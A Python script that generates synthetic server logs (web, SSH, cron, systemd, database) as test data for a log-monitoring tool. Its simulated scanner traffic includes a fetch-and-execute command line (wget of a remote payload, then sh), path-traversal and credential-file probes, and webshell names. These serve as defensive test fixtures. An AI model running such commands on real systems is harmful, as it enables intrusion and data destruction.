#!/usr/bin/env python3
"""Blind replay generator: three days of several VPSs' /var/log with incidents injected on day 3.

Written independently of LogWarden's detectors (see README.md). Python 3 stdlib only,
deterministic by seed.

    python3 gen.py --seed 1 --hosts 3 --out /tmp/replay1
    -> /tmp/replay1/<host>/var/log/...   and   /tmp/replay1/truth.json
"""
import argparse
import datetime as dt
import gzip
import hashlib
import json
import math
import os
import random
import zlib

UTC = dt.timezone.utc
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
DAY = 86400.0

HOST_NAMES = ["shop-web1", "api-fra2", "mx-ams1", "blog-nyc3", "crm-lon1", "git-sto1", "cdn-par2", "erp-ber1"]

# ----------------------------------------------------------------------------------------------------------
# helpers


def poisson(rng, lam):
    if lam <= 0:
        return 0
    if lam > 40:
        return max(0, int(round(rng.gauss(lam, math.sqrt(lam)))))
    l, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p <= l:
            return k
        k += 1


def human_curve(hour):
    """Relative traffic of people by hour of day (UTC, European customers): low at 3-5, peak 13-20."""
    x = math.cos((hour - 16.5) / 24.0 * 2 * math.pi)
    return 0.22 + 0.78 * ((x + 1) / 2) ** 1.6


def public_ip(rng):
    while True:
        a = rng.choice([5, 23, 27, 31, 36, 37, 43, 45, 46, 49, 58, 59, 60, 61, 77, 78, 80, 81, 82, 85, 87, 89, 91, 92, 93,
                        94, 95, 101, 103, 104, 106, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 120, 121, 122,
                        123, 124, 125, 128, 134, 137, 138, 139, 141, 143, 144, 146, 147, 149, 150, 151, 152, 154, 156,
                        157, 159, 160, 161, 162, 164, 165, 167, 170, 171, 175, 176, 177, 178, 179, 180, 181, 182, 183,
                        185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 200, 201, 202, 203, 206, 209, 210,
                        211, 212, 213, 217, 218, 219, 220, 221, 222, 223])
        b, c, d = rng.randrange(256), rng.randrange(256), rng.randrange(1, 255)
        if (a, b) in ((203, 0),) or (a == 198 and b in (18, 19, 51)):
            continue
        return f"{a}.{b}.{c}.{d}"


def hexs(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def b64ish(rng, n):
    a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(a) for _ in range(n))


def iso(ts, frac=3):
    d = dt.datetime.fromtimestamp(ts, UTC)
    if frac == 0:
        return d.strftime("%Y-%m-%dT%H:%M:%SZ")
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + f"{d.microsecond:06d}"[:frac] + "Z"


SSH_DICT = ["root"] * 30 + ["admin"] * 8 + ["ubuntu"] * 5 + ["test", "user", "oracle", "postgres", "git", "ftpuser", "guest",
            "pi", "support", "debian", "centos", "mysql", "hadoop", "deploy", "jenkins", "dev", "test1", "minecraft", "steam",
            "ubnt", "sol", "es", "elastic", "kafka", "nginx", "www", "web", "tomcat", "odoo", "teamspeak", "user1", "vagrant",
            "docker", "ansible", "administrator", "dell", "sysadmin", "server", "student", "123", "zabbix", "nagios", "flask",
            "node", "validator", "solana", "sui", "mongodb", "redis", "testuser", "demo", "backup", "ftp", "www-data"]
BOT_UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
           "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "-",
           "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
           "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:34.0) Gecko/20100101 Firefox/34.0",
           "Mozilla/5.0 (l9scan/2.0.134313e2337313e2433323e26313; +https://leakix.net)", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet. If you would like to be excluded from our scans, please send IP addresses/domains to: scaninfo@paloaltonetworks.com"]
HUMAN_UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
             "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
             "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
             "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
             "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"]
CRAWLER_UAS = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
               "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
               "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
               "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; GPTBot/1.2; +https://openai.com/gptbot)"]
PROBE_PATHS = ["/.env", "/wp-login.php", "/xmlrpc.php", "/.git/config", "/phpmyadmin/index.php", "/admin/.env",
               "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale?form=country",
               "/boaform/admin/formLogin", "/.aws/credentials", "/server-status", "/actuator/env", "/console/",
               "/?XDEBUG_SESSION_START=phpstorm", "/owa/auth/logon.aspx", "/wp-content/plugins/wp-file-manager/readme.txt",
               "/api/.env", "/config.json", "/.DS_Store", "/backup.zip", "/wp-admin/setup-config.php", "/HNAP1/",
               "/geoserver/web/", "/solr/admin/info/system", "/.well-known/security.txt", "/sitemap.xml",
               "/shell?cd+/tmp;rm+-rf+*;wget+http://94.156.8.11/jaws;sh+/tmp/jaws", "/info.php", "/phpinfo.php",
               "/wordpress/wp-admin/", "/telescope/requests", "/_profiler/phpinfo", "/.vscode/sftp.json", "/login.action",
               "/Autodiscover/Autodiscover.xml", "/remote/login", "/global-protect/login.esp", "/v2/_catalog",
               "/containers/json", "/.git/HEAD", "/debug/default/view", "/admin/", "/manager/html"]
SCAN_EXTRA = ["/{}.php".format(w) for w in ["admin", "config", "db", "test", "shell", "wso", "alfa", "up", "upload", "cmd",
                                              "c99", "r57", "xx", "1", "a", "install", "setup", "wp-config", "index_old", "bak"]] + \
             ["/{}/".format(w) for w in ["backup", "old", "new", "dev", "staging", "tmp", "test", "db", "sql", "wp", "blog",
                                          "site", "cms", "admin", "administrator", "panel", "cpanel", "webmail", "mail", "git"]] + \
             ["/{}".format(w) for w in [".env.bak", ".env.local", ".env.production", "config.php.bak", "database.sql",
                                         "dump.sql", "backup.tar.gz", ".htpasswd", ".svn/entries", "web.config",
                                         "composer.json", "package.json", ".npmrc", "id_rsa", ".ssh/id_rsa", "docker-compose.yml",
                                         "etc/passwd", "../../../../etc/passwd", "WEB-INF/web.xml", "jmx-console/", "axis2/"]]


class Host:
    def __init__(self, name, idx, seed, t0):
        self.name = name
        self.idx = idx
        self.rng = random.Random(f"{seed}-{name}")
        r = self.rng
        self.t0 = t0
        self.files = {}
        self.iso_syslog = r.random() < 0.5          # Ubuntu 24.04 style RFC 3339 timestamps vs. Debian traditional
        self.sshd = "sshd-session" if r.random() < 0.34 else "sshd"   # OpenSSH >= 9.8 splits the per-connection process
        self.kprefix = r.random() < 0.6
        self.fw = r.choice(["ufwlike", "nft"])
        self.web_rate = r.uniform(6, 18)             # human requests per minute at the daily mean
        self.scan_sessions = r.randint(120, 320)     # web scanner sessions per day
        self.ssh_sessions = r.randint(250, 700)      # ssh scanner connections per day
        self.fw_rate = r.uniform(3, 9)               # logged drops per minute
        self.mail_rate = r.uniform(0.15, 0.6)        # inbound mails per minute
        self.pid = r.randint(20000, 40000)
        self.boot = t0 - r.uniform(3, 60) * DAY
        self.suppress = []                           # (stream, from, to)
        self.spike = []                              # (stream, from, to, factor)
        self.fail = []                               # (from, to, error): API calls fail (the 5xx incident)
        self.timing_ext = r.random() < 0.5           # access log with request/upstream time appended
        self.domain = {0: "shop.example.com", 1: "api.example.net", 2: "example.org"}.get(idx % 3)
        self.customers = [public_ip(r) for _ in range(2500)]
        self.admin_ips = ["198.51.100.%d" % r.randint(2, 250), "192.0.2.%d" % r.randint(2, 250)]
        self.users = {"deploy": 1001, "alice": 1002, "bob": 1003, "app": 998, "backup": 997}
        self.sudoers = ["deploy", "alice"]
        self.svc_pids = {}
        self.touched = None                          # files an incident writes to (truth's "files")

    # -------------------------------------------------------------------- emitters
    def add(self, path, ts, line):
        self.files.setdefault(path, []).append((ts, line))
        if self.touched is not None:
            self.touched.add(path)

    def newpid(self):
        self.pid += self.rng.randint(1, 9)
        if self.pid > 4194000:
            self.pid = 3000
        return self.pid

    def spid(self, svc):
        if svc not in self.svc_pids:
            self.svc_pids[svc] = self.rng.randint(400, 2400)
        return self.svc_pids[svc]

    def hdr(self, ts):
        d = dt.datetime.fromtimestamp(ts, UTC)
        if self.iso_syslog:
            return d.strftime("%Y-%m-%dT%H:%M:%S.") + f"{d.microsecond:06d}+00:00"
        return f"{MON[d.month - 1]} {d.day:2d} {d:%H:%M:%S}"

    def sys(self, ts, prog, pid, msg, f="syslog"):
        tag = f"{prog}[{pid}]" if pid is not None else prog
        line = f"{self.hdr(ts)} {self.name} {tag}: {msg}"
        self.add(f, ts, line)
        if f in ("kern.log", "mail.log"):
            self.add("syslog", ts, line)

    def kern(self, ts, msg):
        if self.kprefix:
            msg = f"[{ts - self.boot:12.6f}] {msg}"
        self.sys(ts, "kernel", None, msg, "kern.log")

    def auth(self, ts, prog, pid, msg):
        self.sys(ts, prog, pid, msg, "auth.log")

    def systemd(self, ts, msg):
        self.sys(ts, "systemd", 1, msg)

    def access(self, ts, ip, method, path, status, size, ref="-", ua="-", rt=None):
        d = dt.datetime.fromtimestamp(ts, UTC)
        t = f"{d.day:02d}/{MON[d.month - 1]}/{d.year}:{d:%H:%M:%S} +0000"
        line = f'{ip} - - [{t}] "{method} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
        if self.timing_ext:
            if rt is None:
                rt = self.rng.expovariate(1 / 0.04)
            up = f"{rt * 0.95:.3f}" if path.startswith("/api") else "-"
            line += f" {rt:.3f} {up}"
        self.add("nginx/access.log", ts, line)

    def nerr(self, ts, level, msg, conn=None):
        d = dt.datetime.fromtimestamp(ts, UTC)
        c = f"*{conn} " if conn else ""
        p = self.spid("nginx-worker")
        self.add("nginx/error.log", ts, f"{d:%Y/%m/%d %H:%M:%S} [{level}] {p}#{p}: {c}{msg}")

    def pg(self, ts, level, msg, who=None, pid=None):
        d = dt.datetime.fromtimestamp(ts, UTC)
        pid = pid or self.spid("postgres")
        w = f"{who} " if who else ""
        self.add("postgresql/postgresql-16-main.log", ts,
                 f"{d:%Y-%m-%d %H:%M:%S}.{d.microsecond // 1000:03d} UTC [{pid}] {w}{level}:  {msg}")

    def api(self, ts, level, msg, **kw):
        # pino (Node.js): numeric level, epoch milliseconds
        o = {"level": level, "time": int(ts * 1000), "pid": self.spid("node"), "hostname": self.name}
        o.update(kw)
        o["msg"] = msg
        self.add("app/api.log", ts, json.dumps(o, separators=(",", ":")))

    def worker(self, ts, level, event, **kw):
        # structlog (Python): ISO timestamp, level name, event
        o = {"timestamp": dt.datetime.fromtimestamp(ts, UTC).isoformat().replace("+00:00", "Z"), "level": level,
             "event": event, "logger": "worker"}
        o.update(kw)
        self.add("app/worker.log", ts, json.dumps(o))

    def api_rate(self, ts):
        """Mean API requests per second at this time of day (pages x ~4.5 API calls)."""
        return self.web_rate * human_curve(((ts % DAY) / 3600)) * 4.5 / 60

    def failing(self, ts):
        return next((e for a, b, e in self.fail if a <= ts < b), None)

    def suppressed(self, stream, ts):
        return any(s == stream and a <= ts < b for s, a, b in self.suppress)

    def factor(self, stream, ts):
        f = 1.0
        for s, a, b, x in self.spike:
            if s == stream and a <= ts < b:
                f *= x
        return f


# ----------------------------------------------------------------------------------------------------------
# background


def gen_web(h, day_start, day_no):
    r = h.rng
    conn = r.randint(10000, 90000)
    dmul = r.uniform(0.9, 1.1)
    for m in range(1440):
        t = day_start + m * 60
        hour = m / 60
        lam = h.web_rate * human_curve(hour) * dmul
        for _ in range(poisson(r, lam)):
            ts = t + r.random() * 60
            ip = h.customers[min(int(r.paretovariate(1.1)) - 1, len(h.customers) - 1)] if r.random() < 0.6 else r.choice(h.customers)
            ua = HUMAN_UAS[zlib.crc32(ip.encode()) % len(HUMAN_UAS)]
            # a page view = document + a few API (extensionless, SPA) calls + some static
            page = r.choice(["/", "/products/%d" % r.randint(1, 4000), "/category/%s" % r.choice(["shoes", "bags", "sale", "new"]),
                             "/cart", "/account", "/search?q=%s" % r.choice(["red", "boots", "gift", "wallet"])])
            h.access(ts, ip, "GET", page, 200, r.randint(8000, 40000), "https://www.google.com/" if r.random() < 0.3 else "-", ua)
            k = 0.0
            for _ in range(r.randint(2, 7)):
                k += r.uniform(0.05, 0.6)
                p = r.choice(["/api/cart", "/api/session", "/api/products?page=%d" % r.randint(1, 40), "/api/recommendations",
                              "/api/products/%d" % r.randint(1, 4000), "/api/stock/%d" % r.randint(1, 4000), "/api/events"])
                meth = "POST" if p == "/api/events" else "GET"
                st = 200 if r.random() > 0.004 else r.choice([404, 400, 401, 499])
                rt = r.expovariate(1 / 0.05)
                err = h.failing(ts + k)
                if err:
                    st, rt = r.choice([500, 500, 500, 502, 503]), r.uniform(0.002, 0.03)
                    h.api(ts + k + rt, 50, "request errored", req={"method": meth, "url": p}, res={"statusCode": 500},
                          err={"type": "Error", "message": err})
                h.access(ts + k, ip, meth, p, st, r.randint(80, 6000), f"https://{h.domain}{page}", ua, rt)
                if r.random() < 0.3 and not err:
                    h.api(ts + k + rt, 30, "request completed", req={"method": meth, "url": p}, res={"statusCode": st},
                          responseTime=round(rt * 1000, 1), reqId="req-" + hexs(r, 6))
            if r.random() < 0.35:
                for s in ["/static/js/app.4f9c2d1.js", "/static/css/main.81be3a.css", "/images/p/%d.webp" % r.randint(1, 4000)]:
                    k += r.uniform(0.01, 0.2)
                    st = 200 if r.random() > 0.3 else 304
                    if s.startswith("/images") and r.random() < 0.01:
                        st = 404
                        h.nerr(ts + k, "error", f'open() "/var/www/shop/public{s}" failed (2: No such file or directory), client: {ip}, server: {h.domain}, request: "GET {s} HTTP/1.1", host: "{h.domain}", referrer: "https://{h.domain}{page}"', conn)
                    h.access(ts + k, ip, "GET", s, st, 0 if st == 304 else r.randint(2000, 90000), f"https://{h.domain}{page}", ua)
            if r.random() < 0.01:  # checkout
                h.access(ts + k + 3, ip, "POST", "/api/checkout", 200 if r.random() > 0.05 else 402, 312, f"https://{h.domain}/cart", ua)
                if r.random() < 0.05:
                    h.api(ts + k + 3.2, 50, "payment declined", err={"type": "CardError", "code": "card_declined"}, orderId=r.randint(100000, 999999))
            conn += 1
        # API key client hammering the API from an office (near-miss: extensionless paths at a high rate)
        if 8 <= hour < 18 and r.random() < 0.08:
            cip = h.admin_ips[1]
            for i in range(r.randint(30, 120)):
                h.access(t + i * 0.4, cip, "GET", "/api/orders?updated_since=%d" % (int(t) - 3600) if i % 3 else "/api/stock/%d" % r.randint(1, 4000),
                         200, r.randint(200, 4000), "-", "inventory-sync/3.2 (+python-httpx)")
            if r.random() < 0.3:
                for i in range(r.randint(3, 20)):
                    h.nerr(t + 20 + i, "error", f'limiting requests, excess: {r.uniform(10, 20):.3f} by zone "api", client: {cip}, server: {h.domain}, request: "GET /api/orders HTTP/1.1", host: "{h.domain}"', conn)
                    h.access(t + 20 + i, cip, "GET", "/api/orders", 503, 197, "-", "inventory-sync/3.2 (+python-httpx)")
        # load balancer health check every 30 s, uptime monitor every 5 min
        for s in (0, 30):
            # the health endpoint checks the app's dependencies: 503 while they are down
            h.access(t + s + 0.1, "10.0.0.2", "GET", "/healthz", 503 if h.failing(t + s) else 200, 2, "-", "ELB-HealthChecker/2.0", 0.001)
        if m % 5 == 0:
            h.access(t + 3, "216.144.248.%d" % (20 + m % 7), "HEAD", "/", 200, 0, f"https://{h.domain}", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
        if r.random() < 0.7:
            ua = r.choice(CRAWLER_UAS)
            h.access(t + r.random() * 60, "66.249.66.%d" % r.randint(1, 200) if "Google" in ua else public_ip(r), "GET",
                     "/products/%d" % r.randint(1, 4000), 200 if r.random() > 0.05 else 404, r.randint(9000, 40000), "-", ua)
    # scanner background: many IPs, each a few sensitive paths
    for _ in range(h.scan_sessions):
        ip = public_ip(r)
        ts = day_start + r.random() * DAY
        ua = r.choice(BOT_UAS)
        n = r.choice([1, 1, 1, 2, 2, 3, 4, 6, 9, 14])
        for p in r.sample(PROBE_PATHS, n):
            st = r.choice([404, 404, 404, 404, 301, 400]) if p != "/sitemap.xml" else 200
            h.access(ts, ip, "GET", p, st, r.choice([153, 162, 555, 0]), "-", ua)
            if st == 404 and r.random() < 0.3:
                h.nerr(ts, "error", f'open() "/var/www/shop/public{p.split("?")[0]}" failed (2: No such file or directory), client: {ip}, server: {h.domain}, request: "GET {p} HTTP/1.1", host: "{r.choice([h.domain, ip_of(h)])}"', conn)
            ts += r.uniform(0.2, 4)
        if r.random() < 0.15:
            h.access(ts, ip, "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03", "", 400, 157, "-", "-")
        if r.random() < 0.05:
            h.nerr(ts, "crit", f"SSL_do_handshake() failed (SSL: error:0A00006C:SSL routines::bad key share) while SSL handshaking, client: {ip}, server: 0.0.0.0:443", conn)
        conn += 1
    # benign upstream slowness on the report endpoint
    for _ in range(r.randint(0, 4)):
        ts = day_start + r.uniform(8, 18) * 3600
        ip = r.choice(h.customers)
        h.nerr(ts, "error", f'upstream timed out (110: Connection timed out) while reading response header from upstream, client: {ip}, server: {h.domain}, request: "GET /api/reports/sales?range=365d HTTP/1.1", upstream: "http://127.0.0.1:3000/api/reports/sales?range=365d", host: "{h.domain}"', conn)
        h.access(ts, ip, "GET", "/api/reports/sales?range=365d", 504, 167, f"https://{h.domain}/account", HUMAN_UAS[0], 60.0)


def ip_of(h):
    return "10.0.0.%d" % (4 + h.idx)


def gen_ssh_background(h, day_start):
    r = h.rng
    sp = h.spid("sshd-listener")
    for _ in range(h.ssh_sessions):
        ts = day_start + r.random() * DAY
        ip = public_ip(r)
        port = r.randint(1024, 65535)
        pid = h.newpid()
        kind = r.random()
        if kind < 0.12:
            h.auth(ts, h.sshd if h.sshd == "sshd" else "sshd", pid if h.sshd == "sshd" else sp,
                   f"error: kex_exchange_identification: {r.choice(['Connection closed by remote host', 'read: Connection reset by peer', 'client sent invalid protocol identifier'])}")
            h.auth(ts, "sshd", pid if h.sshd == "sshd" else sp, f"Connection {r.choice(['closed', 'reset'])} by {ip} port {port}")
            continue
        if kind < 0.18:
            h.auth(ts, "sshd", pid, f"Unable to negotiate with {ip} port {port}: no matching key exchange method found. Their offer: diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]")
            continue
        if kind < 0.22:
            h.auth(ts, "sshd", pid, f"banner exchange: Connection from {ip} port {port}: invalid format")
            continue
        tries = r.choice([1, 1, 1, 2, 2, 3, 3, 4, 5, 6])
        user = r.choice(SSH_DICT)
        exists = user in ("root",) or user in h.users
        pam = False
        for i in range(tries):
            if i and r.random() < 0.3:
                user = r.choice(SSH_DICT)
                exists = user == "root" or user in h.users
            if not exists:
                h.auth(ts, h.sshd, pid, f"Invalid user {user} from {ip} port {port}")
            if not pam:
                h.auth(ts + 0.1, h.sshd, pid, f"pam_unix(sshd:auth): check pass; user unknown" if not exists else
                       f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}" + (f"  user={user}" if exists else ""))
                if not exists:
                    h.auth(ts + 0.1, h.sshd, pid, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}")
                pam = True
            ts += r.uniform(1.5, 4)
            h.auth(ts, h.sshd, pid, f"Failed password for {'invalid user ' if not exists else ''}{user} from {ip} port {port} ssh2")
        ts += r.uniform(0.1, 2)
        if tries >= 6 or (tries > 1 and r.random() < 0.2):
            h.auth(ts, h.sshd, pid, f"error: maximum authentication attempts exceeded for {'invalid user ' if not exists else ''}{user} from {ip} port {port} ssh2 [preauth]")
            h.auth(ts, h.sshd, pid, f"Disconnecting {'invalid' if not exists else 'authenticating'} user {user} {ip} port {port}: Too many authentication failures [preauth]")
        else:
            h.auth(ts, h.sshd, pid, f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")
            h.auth(ts, h.sshd, pid, f"Disconnected from {'invalid' if not exists else 'authenticating'} user {user} {ip} port {port} [preauth]")
        if tries > 1:
            h.auth(ts, h.sshd, pid, f"PAM {tries - 1} more authentication failure{'s' if tries > 2 else ''}; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}" + (f"  user={user}" if exists else ""))
    # a few persistent scanners a day: one address, 30-90 attempts over one to three hours (normal on a public host)
    for _ in range(r.randint(1, 4)):
        ip = public_ip(r)
        ts = day_start + r.random() * (DAY - 4 * 3600)
        for i in range(r.randint(30, 90)):
            ts += r.uniform(40, 160)
            pid, port = h.newpid(), r.randint(30000, 65000)
            user = "root" if r.random() < 0.6 else r.choice(SSH_DICT)
            ex = user == "root" or user in h.users
            if not ex:
                h.auth(ts, h.sshd, pid, f"Invalid user {user} from {ip} port {port}")
            h.auth(ts + 2, h.sshd, pid, f"Failed password for {'' if ex else 'invalid user '}{user} from {ip} port {port} ssh2")
            h.auth(ts + 2.3, h.sshd, pid, f"Connection closed by {'authenticating' if ex else 'invalid'} user {user} {ip} port {port} [preauth]")


def ssh_login(h, ts, user, ip, method="publickey", sudo_cmds=()):
    r = h.rng
    pid, port = h.newpid(), r.randint(40000, 65000)
    if method == "publickey":
        h.auth(ts, h.sshd, pid, f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{b64ish(random.Random(user + h.name), 43)}")
    else:
        h.auth(ts, h.sshd, pid, f"Accepted password for {user} from {ip} port {port} ssh2")
    uid = h.users.get(user, 0)
    h.auth(ts + 0.02, h.sshd, pid, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by {user}(uid=0)")
    sess = r.randint(100, 9000)
    h.auth(ts + 0.03, "systemd-logind", h.spid("logind"), f"New session {sess} of user {user}.")
    h.systemd(ts + 0.05, f"Started session-{sess}.scope - Session {sess} of User {user}.")
    t = ts + r.uniform(5, 40)
    for cmd in sudo_cmds:
        sp = h.newpid()
        h.auth(t, "sudo", None, f"   {user} : TTY=pts/{r.randint(0, 3)} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}")
        h.auth(t + 0.01, "sudo", None, f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})")
        h.auth(t + r.uniform(0.3, 8), "sudo", None, "pam_unix(sudo:session): session closed for user root")
        t += r.uniform(4, 60)
    end = t + r.uniform(30, 1200)
    h.auth(end, h.sshd, pid, f"Received disconnect from {ip} port {port}:11: disconnected by user")
    h.auth(end, h.sshd, pid, f"Disconnected from user {user} {ip} port {port}")
    h.auth(end + 0.01, h.sshd, pid, f"pam_unix(sshd:session): session closed for user {user}")
    h.auth(end + 0.02, "systemd-logind", h.spid("logind"), f"Session {sess} logged out. Waiting for processes to exit.")
    h.auth(end + 0.03, "systemd-logind", h.spid("logind"), f"Removed session {sess}.")
    h.systemd(end + 0.03, f"session-{sess}.scope: Deactivated successfully.")
    return end


def deploy(h, ts):
    """A release: ssh in, sudo systemctl restart app, a few 502s while it restarts."""
    r = h.rng
    ver = f"v2.{r.randint(10, 40)}.{r.randint(0, 9)}"
    down = r.uniform(2, 12)
    ssh_login(h, ts, "deploy", h.admin_ips[0], sudo_cmds=["/usr/bin/systemctl restart app.service", "/usr/bin/systemctl reload nginx.service"])
    t = ts + r.uniform(8, 20)
    h.systemd(t, "Stopping app.service - Shop API (Node.js)...")
    h.api(t + 0.1, 30, "received SIGTERM, draining connections")
    h.systemd(t + 1.2, "app.service: Deactivated successfully.")
    h.systemd(t + 1.2, "Stopped app.service - Shop API (Node.js).")
    h.systemd(t + 1.2, f"app.service: Consumed {r.uniform(100, 900):.3f}s CPU time, {r.randint(180, 420)}.{r.randint(0, 9)}M memory peak.")
    h.systemd(t + 1.3, "Started app.service - Shop API (Node.js).")
    h.svc_pids["node"] = h.newpid()
    h.api(t + 2.9, 30, f"shop-api {ver} starting", env="production")
    h.api(t + 1.3 + down - 0.2, 30, "connected to postgres", db="shop")
    h.api(t + 1.3 + down, 30, "server listening on http://0.0.0.0:3000")
    # requests arriving while nothing listens (restart takes 2-12 s) get 502s; clients retry once
    for i in range(poisson(r, h.api_rate(t) * down * 1.5)):
        ip = r.choice(h.customers)
        ts2 = t + 1.3 + r.random() * down
        h.access(ts2, ip, "GET", r.choice(["/api/cart", "/api/session", "/api/products?page=1"]), 502, 157, f"https://{h.domain}/", HUMAN_UAS[0], 0.0)
        h.nerr(ts2, "error", f'connect() failed (111: Connection refused) while connecting to upstream, client: {ip}, server: {h.domain}, request: "GET /api/cart HTTP/1.1", upstream: "http://127.0.0.1:3000/api/cart", host: "{h.domain}"', r.randint(1000, 99999))
    h.systemd(t + 9, "Reloading nginx.service - A high performance web server and a reverse proxy server...")
    h.systemd(t + 9.1, "Reloaded nginx.service - A high performance web server and a reverse proxy server.")
    h.nerr(t + 9.05, "notice", "signal process started")


def gen_system(h, day_start, day_no):
    r = h.rng
    # cron (syslog) and pam sessions (auth.log)
    jobs = [("www-data", "php /var/www/shop/artisan schedule:run >> /dev/null 2>&1", 1, 0, "sched"),
            ("root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1", 10, 0, "sa1"),
            ("app", "/usr/local/bin/queue-health.sh --quiet", 5, 2, "qhealth"),
            ("root", "   cd / && run-parts --report /etc/cron.hourly", 60, 17, "hourly"),
            ("postgres", "/usr/local/bin/pg-backup.sh", 1440, 150, "pgbackup"),
            ("root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", 1440, 385, "daily")]
    for user, cmd, every, off, key in jobs:
        for m in range(off, 1440, every):
            ts = day_start + m * 60 + r.uniform(0.2, 1.5)
            if h.suppressed("cron:" + key, ts):
                continue
            pid = h.newpid()
            uid = {"root": 0}.get(user, h.users.get(user, 33 if user == "www-data" else 116))
            h.auth(ts, "CRON", pid, f"pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)")
            h.sys(ts, "CRON", pid, f"({user}) CMD ({cmd})")
            dur = {"pgbackup": r.uniform(60, 300), "daily": 30}.get(key, r.uniform(0.1, 3))
            h.auth(ts + dur, "CRON", pid, f"pam_unix(cron:session): session closed for user {user}")
            if key == "pgbackup":
                h.pg(ts + 2, "LOG", f"duration: {dur * 1000 - 3000:.3f} ms  statement: COPY public.orders (id, customer_id, total, created_at, status) TO stdout;", "postgres@shop", h.newpid())
    # systemd timers
    for m in range(0, 1440, 10):
        ts = day_start + m * 60 + r.uniform(0, 5)
        h.systemd(ts, "Starting sysstat-collect.service - system activity accounting tool...")
        h.systemd(ts + 0.05, "sysstat-collect.service: Deactivated successfully.")
        h.systemd(ts + 0.05, "Finished sysstat-collect.service - system activity accounting tool.")
    for m in range(9, 1440, 30):
        ts = day_start + m * 60 + r.uniform(0, 30)
        h.systemd(ts, "Starting phpsessionclean.service - Clean php session files...")
        h.systemd(ts + 0.3, "phpsessionclean.service: Deactivated successfully.")
        h.systemd(ts + 0.3, "Finished phpsessionclean.service - Clean php session files.")
    # midnight: logrotate, nginx reopen, man-db
    ts = day_start + r.uniform(0, 2)
    h.systemd(ts, "Starting logrotate.service - Rotate log files...")
    h.systemd(ts + 0.1, "Starting dpkg-db-backup.service - Daily dpkg database backup service...")
    h.nerr(ts + 0.5, "notice", "signal process started")
    h.systemd(ts + 0.6, "Reloading postgresql@16-main.service - PostgreSQL Cluster 16-main...")
    h.pg(ts + 0.7, "LOG", "received SIGHUP, reloading configuration files")
    h.systemd(ts + 0.8, "Reloaded postgresql@16-main.service - PostgreSQL Cluster 16-main.")
    h.sys(ts + 1.0, "rsyslogd", h.spid("rsyslogd"), '[origin software="rsyslogd" swVersion="8.2312.0" x-pid="%d" x-info="https://www.rsyslog.com"] rsyslogd was HUPed' % h.spid("rsyslogd"))
    h.systemd(ts + 1.1, "logrotate.service: Deactivated successfully.")
    h.systemd(ts + 1.1, "Finished logrotate.service - Rotate log files.")
    h.systemd(ts + 1.2, "dpkg-db-backup.service: Deactivated successfully.")
    h.systemd(ts + 1.2, "Finished dpkg-db-backup.service - Daily dpkg database backup service.")
    # apt-daily twice a day, fwupd-refresh failing daily (classic Ubuntu noise), certbot twice
    for hh in (r.uniform(6, 7), r.uniform(17, 19)):
        ts = day_start + hh * 3600
        h.systemd(ts, "Starting apt-daily.service - Daily apt download activities...")
        h.systemd(ts + 4, "apt-daily.service: Deactivated successfully.")
        h.systemd(ts + 4, "Finished apt-daily.service - Daily apt download activities.")
        ts += r.uniform(600, 3000)
        h.systemd(ts, "Starting certbot.service - Certbot...")
        h.systemd(ts + 2, "certbot.service: Deactivated successfully.")
        h.systemd(ts + 2, "Finished certbot.service - Certbot.")
